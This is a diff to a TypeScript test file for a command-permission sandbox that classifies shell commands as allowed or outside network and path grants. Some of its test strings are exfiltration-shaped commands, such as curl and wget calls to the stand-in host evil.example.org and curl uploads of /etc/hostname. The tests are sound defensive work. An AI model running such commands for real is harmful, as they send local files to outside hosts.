@@ -29,6 +29,12 @@ describe("addresses of programs that fetch", () => {
     "curl -- evil.example.org",
     "wget -q evil.example.org",
     "http POST evil.example.org a=b",
+    "http -b evil.example.org",
+    "http --body evil.example.org",
+    "http LOCALHOST",
+    "http GET LOCALHOST",
+    "http :3000/x",
+    "curl -sxevil.example.org:3128 https://api.example.com/",
   ])("are hosts without a scheme too: %s", (command) => {
     expect(verdict(policy, command)).toBe("net.outside");
   });
@@ -37,6 +43,10 @@ describe("addresses of programs that fetch", () => {
     "curl -s -X POST -H 'Accept: text/plain' -d a=b -u me:word -m 10 https://api.example.com/a",
     "curl --max-time 10 --user-agent me --data '{\"a\":1}' https://api.example.com/a",
     "http POST https://api.example.com/a name=x X-Header:1",
+    "http get https://api.example.com/a",
+    "http -p h --pretty all --max-redirects 3 https://api.example.com/a",
+    "curl --noproxy '*' --parallel-max 5 --rate 2/s https://api.example.com/a",
+    "wget --read-timeout 20 --connect-timeout 10 --waitretry 5 https://api.example.com/a",
   ])("and nothing else is: %s", (command) => {
     expect(verdict(policy, command)).toBe("allow");
   });
@@ -54,6 +64,7 @@ describe("words of a command that are files", () => {
     "curl -F f=@/etc/hostname https://api.example.com/",
     "curl -F 'f=@/etc/hostname;type=text/plain' https://api.example.com/",
     "curl --data-binary=@/etc/hostname https://api.example.com/",
+    "curl --data-urlencode x@/etc/hostname https://api.example.com/",
     "cat README",
     'cp docs/a "/tmp/new file"',
     "cp docs/a docs/b",
@@ -71,15 +82,27 @@ describe("words of a command that are files", () => {
     },
   );
   test("what is changed must be granted as that", () => {
-    const both: Policy = { exec: ["cp", "rm", "touch"], fs: { read: ["$WORKSPACE/docs/**"], write: ["$WORKSPACE/out/**"] } };
+    const both: Policy = {
+      exec: ["cp", "rm", "touch", "sed", { command: "perl", args: "any" }],
+      fs: { read: ["$WORKSPACE/docs/**"], write: ["$WORKSPACE/out/**"] },
+    };
     const found = (command: string): string => verdict(both, command);
-    expect([found("cp docs/a out/new"), found("rm out/x"), found("touch out/y"), found("rm docs/a"), found("cp out/x docs/new")]).toEqual([
-      "allow",
-      "allow",
-      "allow",
-      "path.outside",
-      "path.outside",
-    ]);
+    for (const command of ["cp docs/a out/new", "rm out/x", "touch out/y", "cp -t out docs/a", "sed -i --expression=s/a/b/ out/x"])
+      expect([command, found(command)]).toEqual([command, "allow"]);
+    for (const command of [
+      "rm docs/a",
+      "rm -r docs",
+      "touch new",
+      "cp out/x docs/new",
+      "cp out/x newfile.txt",
+      "cp out/x docs",
+      "cp -t docs out/x",
+      "cp --target-directory=docs out/x",
+      "sed -i --expression=s/a/b/ docs/a",
+      "sed -i -es/a/b/ docs/a",
+      "perl -pi -es/a/b/ docs/a",
+    ])
+      expect([command, found(command)]).toEqual([command, "path.outside"]);
   });
 });
 
@@ -107,6 +130,15 @@ test("a name that every object has is no program of ours", () => {
     expect(verdict({ exec: [program] }, `${program} docs/a`)).toBe("path.outside");
 });
 
+test("a message or a script that begins like a path is none; a value that is called like a variable is none", () => {
+  const policy: Policy = { exec: ["git", "awk"], fs: { read: ["$WORKSPACE/**"] } };
+  expect(verdict(policy, "git commit -m '/etc/hosts is parsed now'")).toBe("allow");
+  expect(verdict(policy, "awk '/home/ {print $1}' docs/a")).toBe("allow");
+  const fence = fenceIn({ manifest: manifestOf({ tool: { policy: { net: ["a.example"] } } }), workspace: place() });
+  expect(fence.explain("tool", { operator: "LESS" }).verdict).toBe("allow");
+  expect(fence.explain("tool", { files: { include: "x", main: "y" } }).verdict).toBe("allow");
+});
+
 test("what a repository's own configuration would have git run is not run", async () => {
   const workspace = folder({ "a.txt": "a" });
   const git = (...args: string[]): unknown => execFileSync("git", args, { cwd: workspace, stdio: "pipe" });
@@ -120,4 +152,8 @@ test("what a repository's own configuration would have git run is not run", asyn
   const fence = createFence({ manifest: manifestOf({ tool: { policy: { exec: ["git"], fs: { read: ["$WORKSPACE/**"] } } } }), workspace });
   const { exitCode } = await fence.wrap(async () => io.exec("git", ["status"]), { name: "tool" })();
   expect([exitCode, existsSync(ran)]).toEqual([0, false]);
+  git("add", "a.txt");
+  writeFileSync(join(workspace, "a.txt"), "b");
+  const { stdout } = await fence.wrap(async () => io.exec("git", ["diff"]), { name: "tool" })();
+  expect(stdout).toContain("+b");
 });
